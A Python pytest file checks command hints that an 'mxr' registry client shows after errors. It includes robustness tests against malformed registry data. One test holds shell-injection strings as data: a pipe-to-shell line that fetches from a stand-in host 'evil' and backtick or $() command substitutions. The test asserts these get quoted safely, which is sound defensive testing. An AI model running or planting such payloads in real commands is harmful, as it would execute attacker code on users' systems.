"""What a user of the commands is told to do after an error of a registry: by its code and its context."""

from __future__ import annotations

from typing import Any

import pytest
from harness.rows import for_each

from mxr import errors
from mxr.client.hints import command_hint
from mxr.errors import MxrError

RULE = {"rule": "built", "namespace": "team/a", "excluded": ["ab" * 32]}
NEEDED = {"form": "whole", "complete": True, "rocm_patch": "7.2.1", "allow": []}


def hint(kind: type[MxrError], **context: Any) -> str:
    return command_hint(kind("It is wrong.", hint="of the registry", context=context)) or ""


@for_each(
    [
        (
            errors.NoSuchArtifactError,
            {"serve": RULE},
            ["--on-miss wait", f"promote {'ab' * 6}`", "team/a --serve any"],
        ),
        (errors.NotAllowedError, {"serve": RULE}, ["Promote it", "mxr promote", "--serve any"]),
        (errors.NoSuchArtifactError, {"ids": ["a"]}, ["mxr import", "mxr lock"]),
        (errors.NotAllowedError, {"id": "a", "locks": ["prod"]}, ["mxr lock --unregister"]),
        (errors.NotFoundError, {"object": "job"}, ["mxr jobs"]),
        (errors.NotFoundError, {"object": "artifact"}, ["mxr ls"]),
        (errors.NotFoundError, {"object": "lock"}, ["mxr lock --registered"]),
        (errors.UsageError, {"object": "job"}, ["more digits", "mxr jobs"]),
        (errors.ConflictError, {"amendable": True, "differences": []}, ["--amend"]),
        (errors.ConflictError, {"limit": 10_000}, ["mxr lock --unregister"]),
        (errors.MismatchError, {"files": ["a.mxr"], "differences": []}, ["mxr inspect"]),
        (errors.NoSuchBlobError, {"missing": ["a"], "calibration": True}, ["file of calibration data"]),
        (errors.NoWorkerError, {"needed": NEEDED}, ["mxr-worker run`", "--on-miss ask", "--allow patch"]),
        (errors.NoWorkerError, {"needed": NEEDED | {"form": "ort:B:1.22"}}, ["--python PATH-OF-THAT-INTERPRETER"]),
        (errors.NoWorkerError, {"needed": NEEDED | {"complete": False}}, ["--num-cu and --chiplets"]),
    ]
)
def test_the_commands_that_help(kind: type[MxrError], context: dict[str, Any], words: list[str]) -> None:
    found = hint(kind, **context)
    assert [word for word in words if word not in found] == [], found


def test_another_patch_is_offered_only_where_it_helps() -> None:
    for change in ({"allow": ["patch"]}, {"rocm_patch": None}):
        assert "--allow patch" not in hint(errors.NoWorkerError, needed=NEEDED | change)


HOSTILE: list[Any] = [None, 1, [], {}, "x", [None], {"excluded": []}, {"excluded": 1}, {"excluded": [{}], "rule": []}]


@pytest.mark.parametrize("value", HOSTILE)
@pytest.mark.parametrize("name", ["serve", "needed", "object", "files", "locks", "calibration"])
def test_a_registry_that_lies_breaks_nothing(name: str, value: Any) -> None:
    for kind in errors.BY_CODE.values():
        assert isinstance(hint(kind, **{name: value}), str)


def test_a_command_with_words_of_a_registry_is_one_command() -> None:
    evil = {"rule": "any", "namespace": "a; curl evil | sh", "excluded": ["b`id`;$(id)"]}
    found = hint(errors.NoSuchArtifactError, serve=evil)
    assert "set 'a; curl evil | sh' --serve" in found and "promote 'b`id`;$(id)'" in found


def test_a_rule_without_artifacts_is_no_advice() -> None:
    assert hint(errors.NoSuchArtifactError, serve={"rule": "built", "excluded": []}) == ""


def test_without_facts_the_hint_of_the_registry_stays() -> None:
    for kind in errors.BY_CODE.values():
        assert command_hint(kind(context={})) is None


def test_a_default_hint_is_worded_for_each_side() -> None:
    for kind in errors.BY_CODE.values():
        sent = kind().to_json(kind.status)
        assert sent["hint"] == kind.api_hint
        assert errors.from_json(sent).hint == kind.usual_hint
